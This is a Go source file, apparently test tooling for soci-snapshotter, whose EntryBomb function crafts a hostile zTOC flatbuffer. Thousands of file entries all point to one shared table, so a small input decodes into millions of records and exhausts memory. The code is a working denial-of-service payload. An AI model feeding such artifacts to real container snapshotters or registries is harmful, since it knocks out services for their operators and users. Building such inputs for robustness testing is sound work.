package hostile

import (
	"fmt"
	"strings"

	"github.com/awslabs/soci-snapshotter/ztoc"
	fbs "github.com/awslabs/soci-snapshotter/ztoc/fbs/ztoc"
	flatbuffers "github.com/google/flatbuffers/go"
)

// EntryBomb serializes z with extra more file table entries that all point
// at one shared flatbuffer table (a directory named name at offset 0, no
// owner names, no mtime string). Each extra entry costs 4 bytes of
// flatbuffer but a whole file record once decoded: a few MiB of zTOC that
// decode into millions of entries and hundreds of MiB of heap.
func EntryBomb(z *ztoc.Ztoc, name string, extra int) ([]byte, error) {
	b := flatbuffers.NewBuilder(4*extra + 1<<20)
	algorithm, ok := compressionEnum(z.CompressionAlgorithm)
	if !ok {
		return nil, fmt.Errorf("compression %q has no flatbuffer value", z.CompressionAlgorithm)
	}

	// The shared table first, then the real entries, then the vector
	// naming all of them (flatbuffers are built back to front).
	sharedName, sharedType := b.CreateString(name), b.CreateString("dir")
	fbs.FileMetadataStart(b)
	fbs.FileMetadataAddName(b, sharedName)
	fbs.FileMetadataAddType(b, sharedType)
	fbs.FileMetadataAddMode(b, 0o755)
	shared := fbs.FileMetadataEnd(b)

	files := make([]flatbuffers.UOffsetT, len(z.FileMetadata))
	for i := range z.FileMetadata {
		files[i] = fileTable(b, &z.FileMetadata[i])
	}
	fbs.TOCStartMetadataVector(b, len(files)+extra)
	for i := len(files) - 1; i >= 0; i-- {
		b.PrependUOffsetT(files[i])
	}
	for range extra {
		b.PrependUOffsetT(shared)
	}
	metadata := b.EndVector(len(files) + extra)
	fbs.TOCStart(b)
	fbs.TOCAddMetadata(b, metadata)
	toc := fbs.TOCEnd(b)

	checkpoints := b.CreateByteVector(z.Checkpoints)
	spanDigests := make([]flatbuffers.UOffsetT, len(z.SpanDigests))
	for i, d := range z.SpanDigests {
		spanDigests[i] = b.CreateString(d.String())
	}
	fbs.CompressionInfoStartSpanDigestsVector(b, len(spanDigests))
	for i := len(spanDigests) - 1; i >= 0; i-- {
		b.PrependUOffsetT(spanDigests[i])
	}
	digests := b.EndVector(len(spanDigests))
	fbs.CompressionInfoStart(b)
	fbs.CompressionInfoAddMaxSpanId(b, int32(z.MaxSpanID))
	fbs.CompressionInfoAddSpanDigests(b, digests)
	fbs.CompressionInfoAddCheckpoints(b, checkpoints)
	fbs.CompressionInfoAddCompressionAlgorithm(b, algorithm)
	info := fbs.CompressionInfoEnd(b)

	version, tool := b.CreateString(string(z.Version)), b.CreateString(z.BuildToolIdentifier)
	fbs.ZtocStart(b)
	fbs.ZtocAddVersion(b, version)
	fbs.ZtocAddBuildToolIdentifier(b, tool)
	fbs.ZtocAddToc(b, toc)
	fbs.ZtocAddCompressedArchiveSize(b, int64(z.CompressedArchiveSize))
	fbs.ZtocAddUncompressedArchiveSize(b, int64(z.UncompressedArchiveSize))
	fbs.ZtocAddCompressionInfo(b, info)
	b.Finish(fbs.ZtocEnd(b))
	return b.FinishedBytes(), nil
}

// fileTable writes one file table entry (no xattrs: the test layers have
// none).
func fileTable(b *flatbuffers.Builder, f *ztoc.FileMetadata) flatbuffers.UOffsetT {
	mtime, _ := f.ModTime.MarshalText()
	name, typ, link := b.CreateString(f.Name), b.CreateString(f.Type), b.CreateString(f.Linkname)
	uname, gname, mt := b.CreateString(f.Uname), b.CreateString(f.Gname), b.CreateByteString(mtime)
	fbs.FileMetadataStart(b)
	fbs.FileMetadataAddName(b, name)
	fbs.FileMetadataAddType(b, typ)
	fbs.FileMetadataAddUncompressedOffset(b, int64(f.UncompressedOffset))
	fbs.FileMetadataAddUncompressedSize(b, int64(f.UncompressedSize))
	fbs.FileMetadataAddLinkname(b, link)
	fbs.FileMetadataAddMode(b, f.Mode)
	fbs.FileMetadataAddUid(b, uint32(f.UID))
	fbs.FileMetadataAddGid(b, uint32(f.GID))
	fbs.FileMetadataAddUname(b, uname)
	fbs.FileMetadataAddGname(b, gname)
	fbs.FileMetadataAddModTime(b, mt)
	fbs.FileMetadataAddDevmajor(b, f.Devmajor)
	fbs.FileMetadataAddDevminor(b, f.Devminor)
	return fbs.FileMetadataEnd(b)
}

// compressionEnum is the flatbuffer value of a zTOC compression algorithm
// ("gzip" is "Gzip" in the schema).
func compressionEnum(algorithm string) (fbs.CompressionAlgorithm, bool) {
	for name, v := range fbs.EnumValuesCompressionAlgorithm {
		if strings.EqualFold(name, algorithm) {
			return v, true
		}
	}
	return 0, false
}
